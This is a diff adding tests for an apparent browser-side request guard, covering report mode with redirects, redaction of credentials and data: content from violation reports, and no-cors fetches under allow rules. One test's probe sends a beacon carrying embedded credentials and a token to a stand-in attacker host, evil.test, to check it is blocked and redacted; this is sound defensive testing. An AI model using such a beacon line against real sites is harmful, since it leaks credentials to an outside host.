@@ -113,6 +113,44 @@ test('report mode lets the request through and reports it', async () => {
   await page.close();
 });
 
+test('report mode follows redirects: nothing is blocked', async () => {
+  const page = await browser.open({ options: { ...OPTIONS, mode: 'report' }, csp: PAGE_CSP });
+  const result = await page.evaluate(() => attempt(() => fetch('https://api.test/v1/redirect?to=https://api.test/v1/after-report-redirect').then((r) => r.json())));
+  assert.equal(result.value?.path, '/v1/after-report-redirect', JSON.stringify(result));
+  await page.close();
+});
+
+test('reports carry no user:password@ and no data: content, from the engine or from the loader (before it is ready, or failed closed)', async () => {
+  const probe = `window.reported = async () => {
+    try { await fetch('data:text/plain,SECRET-DATA'); } catch (_) {}
+    try { navigator.sendBeacon('https://svc:S3cret@evil.test/x?token=abc'); } catch (_) {}
+    return { violations: violations.map((v) => v.blockedURL + ' ' + v.reason), audit: auditEvents.map((e) => e.url + ' ' + e.reason) };
+  };`;
+  const ready = await browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: probe });
+  const failedClosed = await browser.open({ options: OPTIONS, csp: "script-src 'self' 'unsafe-inline'", afterInstall: probe });
+  for (const page of [ready, failedClosed]) {
+    const result = await page.evaluate(async () => { await guardReady.catch(() => {}); return reported(); });
+    const text = JSON.stringify(result);
+    assert.ok(result.violations.length >= 2, text);
+    assert.ok(!/S3cret|svc:|SECRET-DATA|token/.test(text), text);
+    assert.ok(result.violations.some((line) => line.startsWith('https://evil.test/x ')), text);
+    await page.close();
+  }
+});
+
+test('a no-cors fetch under an allow rule that does not follow redirects is refused and reported, saying what to change', async () => {
+  const page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
+  const result = await page.evaluate(async () => ({
+    fetch: await attempt(() => fetch('https://api.test/v1/no-cors', { mode: 'no-cors' })),
+    followed: await attempt(() => fetch('https://cdn.test/no-cors', { mode: 'no-cors' }).then((r) => r.type)),
+    violations: violations.map((v) => v.reason),
+  }));
+  assert.match(result.fetch.message, /a no-cors request follows redirects, which its allow rule refuses; add followRedirects or drop no-cors/);
+  assert.equal(result.followed.value, 'opaque', 'a rule that follows redirects takes no-cors requests');
+  assert.equal(result.violations.length, 1);
+  await page.close();
+});
+
 test('navigation sinks: forms, <a ping>, location, window.open follow the redirects list', async () => {
   const page = await browser.open({ options: OPTIONS, csp: PAGE_CSP });
   const result = await page.evaluate(async () => {
